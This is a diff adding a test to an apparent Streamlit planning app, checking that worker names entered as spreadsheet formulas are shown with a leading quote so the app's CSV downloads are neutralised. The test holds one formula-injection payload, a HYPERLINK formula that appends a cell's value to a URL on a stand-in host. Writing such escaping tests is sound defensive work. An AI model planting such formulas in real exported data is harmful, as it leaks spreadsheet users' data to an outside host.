@@ -208,3 +208,29 @@ def test_app_refuses_a_file_over_the_limit(at, tmp_path):
     assert not at.exception
     assert any("超过上传上限" in e.value and f"{limit} MB" in e.value for e in at.error)
     assert not list((tmp_path / "uploads").rglob("workers.csv"))
+
+
+def test_app_tables_neutralise_formula_names(tmp_path, monkeypatch):
+    """The app's tables (whose toolbar downloads CSV) show a name typed as a formula with a leading quote."""
+    import shutil
+
+    import pandas as pd
+
+    from planner.pipeline import run_plan
+
+    scen = tmp_path / "tiny"
+    shutil.copytree(TINY, scen)
+    workers = pd.read_csv(scen / "workers.csv", dtype=str, keep_default_na=False)
+    formula = '=HYPERLINK("http://example.invalid/?"&F2,"点我")'
+    workers["name"] = formula
+    workers.to_csv(scen / "workers.csv", index=False)
+    plan = tmp_path / "plan"
+    run_plan(scen / "scenario.toml", plan, check=False)
+    monkeypatch.setenv("PLANNER_APP_SCENARIO", str(scen / "scenario.toml"))
+    monkeypatch.setenv("PLANNER_APP_PLAN_DIR", str(plan))
+    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
+    app.run()
+    app.sidebar.radio(key="page").set_value("乡镇").run()
+    assert not app.exception
+    names = app.dataframe[0].value["姓名"]
+    assert len(names) and (names == "'" + formula).all()
